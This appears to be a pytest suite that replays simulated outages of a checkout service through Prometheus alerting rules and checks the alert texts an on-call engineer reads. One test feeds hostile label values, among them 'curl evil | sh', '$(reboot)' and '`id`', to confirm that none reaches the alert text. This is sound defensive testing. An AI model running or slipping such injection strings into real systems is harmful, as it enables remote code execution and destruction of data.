"""Outages played through our own rules, and what the person on call then reads.

The texts are kept in tests/cases/outages/: whoever changes one reads the whole page as at three in the morning.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path

import pytest

from tests.behaviour import shop
from tests.behaviour.played import ROOT, Alert, Played, Scene, compiled, play

pytestmark = pytest.mark.slow

GOLDENS = ROOT / "tests" / "cases" / "outages"
Golden = Callable[[Path, str], None]
END = 100.0
"""Minutes of each scene; the outage begins at 01:00."""
OUTAGE = 60
_FIRST = ("summary", "impact", "description", "diagnosis", "fix")


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """The fast and the slow group of checkout in prod; both are right when they are evaluated every 30s."""
    folder = compiled(ROOT / "slo", tmp_path_factory.mktemp("outages") / "output")
    return [folder / "prod/services/checkout/rules" / f"{speed}.yaml" for speed in ("fast", "slow")]


def failing(good: float = 27.6, bad: float = 2.4, end: float = END) -> dict[str, str]:
    """Ten requests a second, of which a share fails from 01:00 on."""
    rest = end - OUTAGE
    return shop.requests(((30, OUTAGE), (good, rest)), ((0, OUTAGE), (bad, rest)))


def around(**cluster: float) -> dict[str, str]:
    """Targets, kube-state-metrics, the neighbour and the budget."""
    return (
        shop.targets(shop.held((1, END)))
        | shop.cluster(END, **cluster)  # type: ignore[arg-type]
        | shop.neighbour(END)
        | shop.budget(END)
    )


def paper(moments: Iterable[tuple[int, Sequence[Alert]]]) -> str:
    """What fires, minute by minute, each alert with all of its text."""
    parts = []
    for minute, alerts in moments:
        parts.append(f"==== {minute // 60:02}:{minute % 60:02}\n")
        parts += [_sheet(alert) for alert in sorted(alerts, key=lambda a: (a.about, a.name))] or ["nothing fires\n"]
    return "\n".join(parts)


def _sheet(alert: Alert) -> str:
    rest = sorted(set(alert.texts) - set(_FIRST))
    labels = ", ".join(f"{name}={value}" for name, value in sorted(alert.labels.items()) if name != "alertname")
    lines = [f"{alert.name}\n{labels}\n"]
    for name in (*(name for name in _FIRST if name in alert.texts), *rest):
        body = "\n".join(f"  {line}".rstrip() for line in alert.texts[name].splitlines())
        lines.append(f"{name}\n{body}\n")
    return "".join(lines)


def fit(alerts: Iterable[Alert]) -> None:
    """Every text is whole and as short as was promised."""
    for alert in alerts:
        whole = "\n".join(alert.texts.values())
        assert "error expanding" not in whole
        assert "<no value>" not in whole
        assert len(alert.texts["summary"]) <= 110
        assert len(alert.texts["description"]) <= 650
        assert len(alert.texts["description"].splitlines()) <= 5


def every(played: Played) -> list[Alert]:
    """All that fired at any moment."""
    return [alert for alerts in played.values() for alert in alerts]


def of(alerts: Iterable[Alert], slo: str, tier: str, state: str = "") -> Alert:
    """The one alert about this."""
    (found,) = [alert for alert in alerts if alert.about == (slo, tier, state)]
    return found


def abouts(alerts: Iterable[Alert]) -> list[tuple[str, str, str]]:
    """What the alerts are about, in order."""
    return sorted(alert.about for alert in alerts)


def test_errors_during_a_rollout(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
    """8% of requests get a 503 while a rollout has 3 of 10 pods not ready: one page, which names both."""
    series = failing() | around(rolled=58, hurt=58, not_ready=3)
    scene = Scene("rollout", series, (59, 60, 75))
    played = play(promtool, tmp_path, rules, [scene])
    assert [abouts(played["rollout", minute]) for minute in scene.minutes] == [[], [], [("availability", "page", "")]]
    page = of(played["rollout", 75], "availability", "page")
    assert (
        "rollout of deploy/checkout in shop is under way (newest revision since 00:58 UTC)" in page.texts["diagnosis"]
    )
    assert f"3 of 10 pods not ready: {' '.join(shop.PODS[:3])}" in page.texts["diagnosis"]
    fit(every(played))
    golden(GOLDENS / "rollout.txt", paper([(75, played["rollout", 75])]))


def killed(up: str) -> dict[str, str]:
    """Every request fails from 01:00 on, and at 01:06 every pod is killed; each series ends."""
    series = shop.requests(((30, OUTAGE), (0, 6)), ((0, OUTAGE), (30, 6)), "stale")
    return (
        series | shop.targets(up) | shop.cluster(END, hurt=66, not_ready=10) | shop.neighbour(END) | shop.budget(END)
    )


def pages(alerts: Iterable[Alert]) -> list[tuple[str, str, str]]:
    """What pages are about."""
    return abouts(alert for alert in alerts if alert.labels["severity"] == "critical")


def test_all_pods_are_killed(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
    """The errors page first; then nothing answers, which pages too, and there is no minute of silence between."""
    minutes = tuple(range(59, 90))
    scene = Scene("killed", killed(shop.held((1, 66), (0, END - 66))), minutes)
    played = play(promtool, tmp_path, rules, [scene])
    silent = [minute for minute in minutes if not pages(played["killed", minute])]
    assert silent == [59, 60]
    assert pages(played["killed", 64]) == [("availability", "page", "")]
    assert ("availability", "nodata", "down") in pages(played["killed", 70])
    assert ("availability", "nodata", "vanished") not in abouts(played["killed", 89])
    fit(every(played))
    golden(GOLDENS / "killed.txt", paper((minute, played["killed", minute]) for minute in (64, 71)))


def test_all_pods_and_their_targets_are_gone(
    rules: list[Path], tmp_path: Path, promtool: str, golden: Golden
) -> None:
    """Where the targets vanish with the pods nothing is down; what was due and did not come pages.

    The errors' page is kept for 5m after the last counts of them, and what vanished pages 10m after those: between
    the two nothing fires for 5m.
    """
    minutes = tuple(range(59, 96))
    scene = Scene("gone", killed(f"{shop.held((1, 66))} stale") | shop.tiles(66), minutes)
    played = play(promtool, tmp_path, rules, [scene])
    silent = [minute for minute in minutes if not pages(played["gone", minute])]
    assert silent == [59, 60, 76, 77, 78, 79, 80]
    assert pages(played["gone", 90]) == [("availability", "nodata", "vanished"), ("latency", "nodata", "vanished")]
    fit(every(played))
    golden(GOLDENS / "gone.txt", paper([(90, played["gone", 90])]))


def _kinds(series: Mapping[str, str]) -> list[str]:
    return sorted({name.split("{")[0] for name in series if name.startswith(("kube_", "slo:info"))})


def test_no_exporter(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
    """Without kube-state-metrics nothing is said to be ok, and the page is whole all the same."""
    series = {name: values for name, values in (failing() | around()).items() if not name.startswith("kube_")}
    played = play(promtool, tmp_path, rules, [Scene("blind", series, (75,))])
    page = of(played["blind", 75], "availability", "page")
    assert page.texts["diagnosis"].startswith("ok: payment. not checked, no metric about: ")
    fit(every(played))
    golden(GOLDENS / "no-exporter.txt", paper([(75, played["blind", 75])]))


def test_any_series_of_an_exporter_missing(rules: list[Path], tmp_path: Path, promtool: str) -> None:
    """Without any one metric no text breaks, no cause is invented, and none is ok that was found with it."""
    series = failing() | around(rolled=58, hurt=58, not_ready=3)
    kinds = _kinds(series)
    scenes = [Scene("all", series, (75,))]
    for kind in kinds:
        left = {name: values for name, values in series.items() if name.split("{")[0] != kind}
        scenes.append(Scene(kind, left, (75,)))
    played = play(promtool, tmp_path, rules, scenes)
    whole = of(played["all", 75], "availability", "page").texts["diagnosis"]
    fit(every(played))
    for kind in kinds:
        text = of(played[kind, 75], "availability", "page").texts["diagnosis"]
        assert causes(text) <= causes(whole) | {"deploy/checkout in shop was rolled out within the hour"}, kind
        assert not fine(text) - fine(whole), kind


def causes(diagnosis: str) -> set[str]:
    """What was found: lines without their commands, times, numbers and names."""
    lines = [line for line in diagnosis.splitlines() if not line.startswith(("CHANGES:", "ok:", "not checked"))]
    return {re.sub(r" \(newest.*|:.*| of \d+", "", line).strip() for line in lines}


def fine(diagnosis: str) -> set[str]:
    """The causes that are said to be ok."""
    found = re.search(r"^ok: ([^.]*)\.", diagnosis, re.MULTILINE)
    return set(found[1].split(", ")) if found else set()


def test_two_exporters(rules: list[Path], tmp_path: Path, promtool: str) -> None:
    """Two kube-state-metrics that overlap, as in an upgrade, say what one says."""
    one = failing() | around(rolled=58, hurt=58, not_ready=3)
    two = one | shop.cluster(END, rolled=58, hurt=58, not_ready=3, exporter="10.1.0.2:8080")
    played = play(promtool, tmp_path, rules, [Scene("one", one, (75,)), Scene("two", two, (75,))])
    assert played["one", 75] == played["two", 75]
    assert len(played["one", 75]) == 1
    fit(every(played))


HOSTILE = ("x; curl evil | sh #", "--all", "$(reboot)", "checkout-a-b; reboot", '{{ query "up" }}', "a\\nb", "`id`")


def _hostile(text: str) -> dict[str, str]:
    """Objects of this name wherever an exporter or an application may name one."""
    said = {
        f'kube_pod_status_ready|pod="{text}",condition="true"': shop.held((0, END)),
        f'kube_pod_container_status_restarts_total|pod="{text}",container="{text}"': shop.grown((1, END)),
        f'kube_pod_info|pod="{text}",node="{text}"': shop.held((1, END)),
        f'kube_node_status_condition|node="{text}",condition="Ready",status="true"': shop.held((1, END)),
        f'kube_resourcequota|resourcequota="{text}",resource="{text}",type="used"': shop.held((1, END)),
        f'kube_resourcequota|resourcequota="{text}",resource="{text}",type="hard"': shop.held((99, END)),
        f'kube_replicaset_owner|replicaset="{text}",owner_kind="Deployment",owner_name="checkout"': shop.held(
            (1, END)
        ),
        f'kube_replicaset_created|replicaset="{text}"': shop.held((-86_400, END)),
        f'http_requests_total|job="checkout",code="503",route="{text}"': shop.grown((1, END)),
    }
    where = f'instance="{text}",namespace="shop"'
    named = ((*name.split("|", 1), values) for name, values in said.items())
    return {f"{metric}{{{where},{labels}}}": values for metric, labels, values in named}


def test_hostile_labels(rules: list[Path], tmp_path: Path, promtool: str) -> None:
    """Whatever a pod, a container, a node or an instance is called, no text carries it into a shell."""
    series = failing() | around(rolled=58, hurt=58, not_ready=3)
    for value in HOSTILE:
        series |= _hostile(value.replace("\\", "\\\\").replace('"', '\\"'))
    played = play(promtool, tmp_path, rules, [Scene("hostile", series, (75,))])
    fit(every(played))
    page = of(played["hostile", 75], "availability", "page")
    whole = "\n".join(page.texts.values())
    assert [value for value in (*HOSTILE, "curl", "reboot", "--all") if value in whole] == []
    assert f"3 of 10 pods not ready: {' '.join(shop.PODS[:3])}" in page.texts["diagnosis"]


def test_a_misspelt_label(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
    """The rules ask for ``code`` and the metric says ``status``: every request a 503, no page, but a ticket."""
    said = {name.replace("code=", "status="): values for name, values in failing(0, 30).items()}
    played = play(promtool, tmp_path, rules, [Scene("misspelt", said | around(), (59, 61, 95))])
    assert [abouts(played["misspelt", minute]) for minute in (59, 61, 95)] == [
        [],
        [("availability", "nodata", "")],
        [("availability", "nodata", "")],
    ]
    fit(every(played))
    golden(GOLDENS / "misspelt-label.txt", paper([(61, played["misspelt", 61])]))


def test_a_bucket_that_does_not_exist(rules: list[Path], tmp_path: Path, promtool: str, golden: Golden) -> None:
    """The histogram has no bucket of 300 ms: nothing is slow for ever, and a ticket says why."""
    said = {name.replace('le="0.3"', 'le="0.25"'): values for name, values in failing(30, 0).items()}
    played = play(promtool, tmp_path, rules, [Scene("bucket", said | around(), (9, 12))])
    assert [abouts(played["bucket", minute]) for minute in (9, 12)] == [[], [("latency", "nodata", "")]]
    fit(every(played))
    golden(GOLDENS / "no-bucket.txt", paper([(12, played["bucket", 12])]))
